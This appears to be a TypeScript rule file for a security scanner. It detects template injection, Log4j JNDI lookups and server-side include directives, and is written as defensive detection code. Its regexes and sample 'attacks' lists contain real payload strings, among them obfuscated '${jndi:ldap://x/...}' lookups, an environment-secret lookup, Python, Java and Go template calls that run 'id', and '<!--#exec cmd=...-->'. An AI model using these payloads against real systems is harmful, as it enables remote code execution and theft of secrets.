import { foundWithin } from '../lex/found-within.ts'
import { pattern, type Rule, type Span } from '../rule/rule.ts'
import { CHAR } from '../value/features.ts'
import type { Reading } from '../value/reading.ts'
import { WORD } from '../value/words.ts'

/** What a template reaches out of its own data with. */
const OBJECTS =
  /__(?:[a-z]{2,16}__|class|init|proto|subclasses|globals|mro|import)|_{0,2}["']\s{0,2}\+\s{0,2}["']\w{1,12}__|\\x5f|\|\s{0,4}attr\s{0,2}\(|["'][^"'{}]{0,16}["']\s{0,2}(?:\.\w{1,24}\(|\[\s{0,2}["'])|\b(?:source|constant|file_excerpt|url_for|mro|print)\s{0,2}\(|(?<=\{[{&~^#>]{1,3}\s{0,4})constructor\s{0,2}[.}~]|lookup\s{1,4}[\w.]{1,16}\s{1,4}["']?constructor|\b(?:printf|html|js)\s{1,4}"|\.constructor\b|constructor\(|\bsecret_key\b|\bdebug\s{0,4}-?%|request\.(?:application|environ|__)|\bself\b(?:\.(?:_|module|template|context)|\s{0,2}\})|dir\.entries|\{\s{0,4}call\s{1,4}\.\w|lipsum|cycler|joiner|namespace\((?!\s{0,4}\w{1,40}\s{0,4}=)|getclass|forname|\.newinstance\(|java\.(?:lang|util|io(?!\.tmpdir)|net|nio|beans|security|sql|rmi|awt|text|math|time)\b|t\(\s{0,4}java|new\s{1,4}java|runtime|@java|system\(|exec\(|popen|_self\.env|registerundefined|\|\s{0,4}(?:filter|map|reduce|sort)\s{0,4}\((?!\s{0,4}attribute\s{0,4}=\s{0,4}["'][\w.]{1,60}["'])|\.class\.|include\s{1,4}(?!["'][\w./-]{1,80}["']\s{1,4}[.$(]|["'](?:[\w-]{1,40}\/){0,4}[\w-]{1,40}\.(?:html?|liquid|njk|twig|j2|jinja2?|hbs|md|tpl)["'])|dump\(|app\.request|signer\.key|get_admin_log|\|\s{0,4}(?:system|exec|passthru|shell_exec|popen|eval)\b|\{#with\s{1,4}["']|\{\s{0,4}\.system\b|require\(|global\.|root\.|mainmodule|@(?!media)[a-z]{1,24}\(|\b(?:eval|globals|locals|vars|__dirname|send|public_send|const_get|instance_eval|instance_variables|spawn|getattr)\s{0,2}\(|\bopen\s{0,2}\(\s{0,2}[\x22'|]|\bhandler\.(?:settings|application|request|get_)|\benv(?:\.to_h|\[\s{0,2}[\x22'])|[\x22'\])}]\s{0,2}\.\s{0,2}(?:class|bytes|chars|type)\b|\b\d{1,4}\.(?:class|type)\b|[\x22'`[/]constructor\b|\?(?:new|api|eval|interpret|lower_abc)\b|\bt\s{0,2}\(\s{0,2}(?:string|character|system|runtime)\s{0,2}\)|\bprocess\s{0,2}\[|#(?:ctx|context|attr|application|session|request|_memberaccess|response|parameters)\b|\b(?:beans|systemproperties|systemenvironment)\s{0,2}\[|@(?:environment|systemproperties|systemenvironment)\b|\b(?:session|request)\.(?:getservletcontext|servletcontext|getclass)|invokeexactmethod|\.(?:getbytes|getdeclared\w{1,16}|sub\.|at\.)|this\[\s{0,2}[\x22'`]|\breflect\.(?:get|construct|apply)\b|\bescapefn\b|\|\s{0,4}(?:file_read|constantize)\b/
    .source

/** In `${}` these are properties, as build files name them: `${java.version}`, `${config.directory}`. */
const NOT_PROPERTIES =
  '\\bconfig\\b\\s{0,4}(?:[}|]|\\.(?!(?:title|subtitle|name|description|author|language|url|logo|theme)\\s{0,4}[}|]))|java\\.'

/** How far from where a template begins it names an object. */
const REACH = 160
/** No template has control characters in it, and bytes that are not text have. */
const BARRIERS = '{}%\\u0000-\\u0008\\u000e-\\u001f\\u007f-\\u009f'
const OF_PROGRAMS =
  'process\\.|this\\.(?:_|constructor|process|global|require|pop|push|env|getclass|class|\\w{1,40}\\()'
const inMarks = foundWithin({
  opening: /[#!@~]\{|<%=?|\{%|\[\[\$(?!:\/)|\*\{|%\{(?!\[)/,
  inside: new RegExp(`${OBJECTS}|${NOT_PROPERTIES}|${OF_PROGRAMS}`),
  reach: REACH,
  barriers: BARRIERS,
})
// Ruby runs what stands between backticks, wherever in its marks. Polylines have `~{` and `@{`, and
// backticks; Git has `<%an>` for an author, and TiddlyWiki `[[$:/name]]` for a page of its own.
const inRuby = foundWithin({
  opening: /#\{|<%(?![ac][en]>)=?|\{%|\[\[\$(?!:\/)|\*\{/,
  inside: /`/,
  reach: REACH,
  barriers: BARRIERS,
})
// Polylines have these two braces, and backticks further on.
const inBraces = foundWithin({
  opening: /\{\{/,
  inside: new RegExp(`${OBJECTS}|${NOT_PROPERTIES}|${OF_PROGRAMS}|(?<=\\{\\{\\s{0,8}[('"=]{0,2})\``),
  reach: REACH,
  barriers: BARRIERS,
})
// JavaScript writes its own strings with this mark, and its own objects into them.
const inLiterals = foundWithin({
  opening: /\$\{/,
  inside: new RegExp(`${OBJECTS}|process\\.(?:mainmodule|binding|env|exit)`),
  reach: REACH,
  barriers: BARRIERS,
})

function findObject({ lower }: Reading): Span | undefined {
  let first: Span | undefined
  for (const within of [inMarks, inRuby, inBraces, inLiterals]) {
    const found = within(lower)
    if (found !== undefined && (first === undefined || found.start < first.start)) first = found
  }
  return first
}

/** A number in a sum with which people try what a page computes. */
const NUMBER = '[(+-]{0,3}[\'"]?(?:0x[\\da-f]{1,8}|\\d{1,10}(?:\\.\\d{0,6}|e\\d)?)[\'"]?\\)?'
const MARKS =
  '\\{\\{(?![^{}]{1,60}\\}[^}])[{=:>!~*&^-]{0,2}|[$#!*~@%]\\{|\\$!\\{|<%[=-]|\\{%-?\\s{0,4}(?:print|set\\s{1,4}\\w{1,12}\\s{0,2}=|(?:el)?if)|<\\?=|\\{!!'
const OPERATION = '\\s{0,4}(?:\\*{1,2}|/{1,2}|\\+|%|~|<<|>>|(?:mul|times|div)\\s)\\s{0,4}'
const SUM = new RegExp(
  [
    /(?:\{\{(?![^{}]{1,60}\}[^}])|\$\{|#\{|<%=?|\[\[|@\(|\{%=?|\{\{=|<%-|[*~@]\{|^\{(?=[^\]{}]{1,60}\})|\$\[(?!\d-\d\])|#set\()\s{0,8}[('"]{0,2}\d{1,10}['"]?\s{0,4}[*+/-]\s{0,4}['"]?\d{1,10}[)'"]{0,2}\s{0,8}(?:\}|%[>}]|\]|\))/
      .source,
    // What goes on behind it, too.
    `(?:${MARKS})\\s{0,8}${NUMBER}${OPERATION}${NUMBER}\\s{0,4}(?:[|*+/%~)-]|%?\\}|%>|!!|\\?>|#)`,
  ].join('|'),
)

/** Template and expression languages, Log4j lookups, server-side includes. */
export const templateRules: readonly Rule[] = [
  // The expression language of Java behind what a filter of `${` does not know (CVE-2020-10199).
  pattern('template/odd-mark', /\$\\[a-z]\{[^{}\n]{0,200}[*(][^{}\n]{0,200}\}/, {
    score: 5,
    quotable: true,
    chars: CHAR.dollar,
    attacks: ['$\\A{3*3}', "nx-admin$\\B{''.getClass()}"],
    benign: ['$\\mathbb{R}$', '$\\u{20ac}', '$\\v{c}$', '\\A{3*3}'],
  }),
  // Not quotable: whoever logs the document looks it up.
  pattern(
    'template/jndi',
    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:j\$\{|jndi(?!\s{0,4}\}(?!\s{0,4}[:$]))|(?:lower|upper):[^}\s]{1,3}\}|::-|\{:-[a-z]|:[\w.]{0,24}:-[a-z]\})/,
    {
      score: 6,
      chars: CHAR.dollar,
      attacks: [
        '${jndi:ldap://x/a}',
        '${${lower:j}ndi:${lower:l}dap://x}',
        '${${::-j}${::-n}di:rmi://x}',
        '${${env:NONE:-j}ndi:dns://x}',
        '$ {jndi:ldap://x}',
        '${jnd${upper:i}:ldap://x/a}',
        '${${:-j}${:-n}di:ldap://x/a}',
      ],
      benign: [
        '${total}',
        '{jndi}',
        '${jndi} of Log4j',
        'jndi: a directory',
        '${A:-${B}}',
        '${lower: the price}',
        '${env:HOME}',
      ],
    },
  ),
  pattern(
    'template/lookup',
    /\$\s{0,4}\{(?:[^{}]{0,48}\$\{[^{}]{0,48}\}){0,6}[^{}]{0,32}(?:(?:base64(?:de|en)coder|script|url(?:de|en)coder|dns|xml|resourcebundle|bundle|docker|kubernetes|k8s|log4j|spring|sd|marker|jvmrunargs|web|main):|(?:url|file):utf-?\d{1,2}:|const:java|ctx:|env:|sys:|java:|lower:|upper:|:-\$\{)|\$\{date:|\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|corba|nis|https?|\$)|\/jndi\/(?:ldaps?|rmi|dns|iiop):/,
    {
      score: 6,
      quotable: true,
      chars: CHAR.colon,
      words: 0,
      attacks: ['${env:AWS_SECRET}', '${lower: x}', 'jndi:ldap://x/y', 'service:jmx:rmi:///jndi/rmi://x/y'],
      benign: ['${total}', '{jndi}', 'costs ${price}'],
    },
  ),
  pattern('template/arithmetic', SUM, {
    score: 6,
    quotable: true,
    chars: CHAR.brace | CHAR.percent | CHAR.bracket | CHAR.paren,
    attacks: [
      '${(111+111)}',
      '@{7*7}',
      '{{=7*7}}',
      '{7*7}',
      '{{7*7}}',
      '${7*7}',
      '#{16*8787}',
      '<%= 7*7 %>',
      "{{7*'7'}}",
      '{{7**7}}',
      '${7*7*7}',
      '{%print 7*7%}',
      '{%- if 7*7 %}',
      '<%= 7<<1 %>',
      '{{:0x7*7}}',
      '{{!!7*7!!}}',
    ],
    benign: [
      '{{ count }}',
      '${i}',
      '{1, 2}',
      '{0-9]{1,15}',
      '{{2024-05-01}}',
      '${1:-2}',
      '{{ a * 2 }}',
      '{% if 7 %}',
      '{{1+2}\\over{3}}',
      '^[A-Z]$[0-9]',
    ],
  }),
  // Liquid and Twig multiply by a filter, Template Toolkit in marks of its own; Go calls what it is handed.
  pattern(
    'template/filter-sum',
    /\{\{-?\s{0,4}["']?\d{1,10}["']?\s{0,4}\|\s{0,4}(?:times|plus|minus|divided_by|modulo|mul(?:tiply)?|pow)\s{0,4}[:(]\s{0,4}["']?\d|\[%-?\s{0,4}\d{1,10}\s{0,4}\*\s{0,4}\d{1,10}\s{0,4}-?%\]|\{\{-?\s{0,4}(?:call\s{1,4})?\$?\w{0,24}\.(?:\w{1,24}\.){0,4}(?:exec|run|system|readfile|getfile|command|eval)\w{0,12}\s{1,4}["'`]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace | CHAR.bracket,
      attacks: [
        '{{ 7 | times: 7 }}',
        "{{'7'|mul(7)}}",
        '[% 7*7 %]',
        '{{call .Exec "id"}}',
        '{{ $x.RunCommand `id` }}',
      ],
      benign: [
        '{{ price | times: 7 }}',
        '{{ 7 | round }}',
        '[% user.name %]',
        '{{ .Values.command }}',
        '{{ call .fn }}',
      ],
    },
  ),
  {
    id: 'template/object',
    family: 'template',
    needs: [/(?:\{[{%]|[#*$!]\{|[@~%]\{|<%|\[\[\$)/],
    find: findObject,
    score: 5,
    quotable: true,
    chars: CHAR.brace | CHAR.percent | CHAR.bracket,
    words: 0,
    attacks: [
      "{{''.__class__.__mro__}}",
      '${T(java.lang.Runtime).getRuntime()}',
      "{{constructor.constructor('x')()}}",
      '<%= system("id") %>',
      "{% include '/etc/x' %}",
      "{% include '../x.html' %}",
      '{{config.items()}}',
      '{{ config.title.__class__ }}',
      "{{request|attr('application')}}",
      "{{''['__cl'+'ass__']}}",
      "{{'a'.toUpperCase()}}",
      '{%print(7*7)%}',
      '{{namespace.__init__}}',
      '{{self}}',
      "{{['id']|map(attribute='a')|map('system')}}",
      "{{x|map(attribute='__class__')}}",
      '{{namespace(a=1).__init__}}',
      '{% debug %}',
      '{{ settings.SECRET_KEY }}',
    ],
    benign: [
      '{{ user.name }}',
      '${props.title}',
      '{% if x %}',
      "{{ 'greeting' | translate }}",
      '{{ myself }}',
      '{{ template "head" . }}',
      '{% include "parts/header.html" %}',
      '{{ config.title }}',
      '{{ include "app.name" . }}',
      '{{this.total}}',
      '${self.private_ip}',
      "{{ users | map(attribute='name') | join(', ') }}",
      '{% set found = namespace(n=0) %}',
    ],
  },
  // JavaScript writes its own strings so.
  pattern(
    'template/literal',
    /\$\{[^{}%\u0000-\u0008\u000e-\u001f\u007f-\u009f]{0,160}?(?:`|process\.|this\.)|\$\s{0,16}\{\s{0,12}["'][^"'{}]{0,64}["']\s{0,12}\}/,
    {
      score: 5,
      quotable: true,
      bare: true,
      chars: CHAR.dollar,
      attacks: ['${this.x}', '${`id`}', "${'ff'}"],
      benign: ['${thing}', '${name}'],
    },
  ),
  pattern(
    'template/freemarker',
    /<#(?:assign|include|import|list|local|global|function|attempt|setting)\s|<@\(|\$\{\.(?:data_model|get_optional_template|main|globals)\b|#\{set\}\s{0,4}\(|#@set\s{0,4}\(|#(?:if|foreach|define|macro|set|evaluate)\s{0,4}\([^()\n]{0,40}?\)?[^()\n]{0,24}\$!?\{?\w{1,24}\.(?:class\b|getclass\b)|freemarker\.template|\?new\(\)|#set\s{0,4}\(\s{0,4}\$|#(?:foreach|include|parse)\s{0,4}\(|\$class\.inspect|\$(?:session|request|response|application|servletcontext|context|class)\.(?:get|set|inspect)\w{0,24}\(|\{php\}|\[php\]|\{literal\}|\{\$?smarty[._]|\{self::|#evaluate\s{0,2}\(|^\s{0,4}@\{\s{0,4}(?:var|string|int)\s|\$\{\{<%|<%=?\{\{|\{system\(|\{if\s{1,4}[a-z_]{1,24}\(|\{if:[^}\n]{0,24}\)|\{if\{\w{1,16}:\w{1,16}\}|\brunphp\s{0,2}=\s{0,2}['\x22]?(?:yes|true|1)\b|\{if:[^}\n]{0,64}\(|\{end if\}\s{0,4}\{if:|\{\w{2,16}:if\s{0,2}\(/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.hash | CHAR.brace | CHAR.bracket | CHAR.dollar,
      attacks: [
        '$request.getSession()',
        '<#assign ex="freemarker.template.utility.Execute"?new()>',
        '#set($x=1)',
        '{$smarty.version}',
        '<%={{={@{#{${x}}%>',
        '{php}echo 1{/php}',
        "{pboot:if(get_lg('x'))}",
      ],
      benign: ['#settings', '<#>', 'php'],
    },
  ),
  pattern('template/razor', /@html\.raw\s{0,2}\(|@system\.(?:diagnostics|io|reflection|environment)\./, {
    score: 5,
    quotable: true,
    chars: CHAR.paren,
    words: WORD.process | WORD.markup,
    attacks: ['@Html.Raw("x")', '@System.Diagnostics.Process.Start("x")'],
    benign: ['root@system.example (disk)', 'html raw (as is)'],
  }),
  pattern(
    'template/variable',
    /^\s{0,4}\$\{\s{0,4}["'][^"'{}]{0,64}["']\s{0,4}\}\s{0,4}$|\$\s{0,16}\{\s{0,12}(?:\$[a-z_]\w{0,24}|@[a-z_]\w{0,24}\s{0,4}\([^)]{0,48}\)|@\w{1,24}|[a-z_$]\w{0,24}->\w{1,24}|\$[\w@]{1,24}(?:->\w{1,24})?|cmd|constant|whoami|ifconfig|ipconfig|uname)\s{0,12}\}/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.dollar,
      places: ['query', 'path', 'name', 'cookie', 'header', 'body'],
      attacks: ["${'ff'}", '$  { $a}', '${@print(1)}', '${$foo->bar}', '${cmd}', '${whoami}'],
      benign: ['${name}', 'costs ${ total }', '${i}'],
    },
  ),
  pattern(
    'ssi/directive',
    /<!--\s{0,4}#\s{0,4}(?:exec|include|echo|config|printenv|set|fsize|flastmod|if)\b|<esi\s{0,2}:\s{0,2}[a-z]|<!--esi|\$\(http_(?:cookie|host|user_agent|referer|accept_language)\b/,
    {
      score: 6,
      quotable: true,
      chars: CHAR.less | CHAR.dollar,
      attacks: ['<!--#exec cmd="ls" -->', '<!--#include virtual="/x"-->', '<esi:include src="http://x"/>'],
      benign: ['<!-- # heading -->', '<!-- exec -->'],
    },
  ),
  // What names a file is put into pages and messages as it is.
  pattern('template/file-name', /[$#*]\{[^{}]{0,80}['"().]/, {
    score: 5,
    places: ['file-name'],
    chars: CHAR.brace,
    attacks: ["x${''.class}.png", '#{1.x}.pdf'],
    benign: ['${name}.png', '{a.b}.txt'],
  }),
  // Tornado: a module of Python, in a page.
  // A number that is to come back as it is, and a sum between the ends of a string.
  pattern(
    'template/number',
    /^\s{0,2}\$\{\s{0,2}\d{4,12}\s{0,2}\}\s{0,2}$|['"]\s{0,2}\+\s{0,2}\{\s{0,2}\d{1,10}\s{0,4}[*+/-]\s{0,4}\d{1,10}\s{0,2}\}\s{0,2}\+\s{0,2}['"]/,
    {
      score: 5,
      quotable: true,
      chars: CHAR.brace,
      attacks: ['${2049182734}', "'+{483129+720931}+'"],
      benign: ['${1}', '${100} off', '#{12345}', "'+{a+b}+'"],
    },
  ),
  pattern('template/import', /\{%\s{0,4}import\s{1,4}(?:os|sys|subprocess|popen|socket|base64|importlib)\b/, {
    score: 5,
    quotable: true,
    chars: CHAR.brace,
    attacks: ['{% import os %}{{os.popen("id").read()}}'],
    benign: ['{% import "forms.html" as forms %}', '{% import osx %}'],
  }),
]
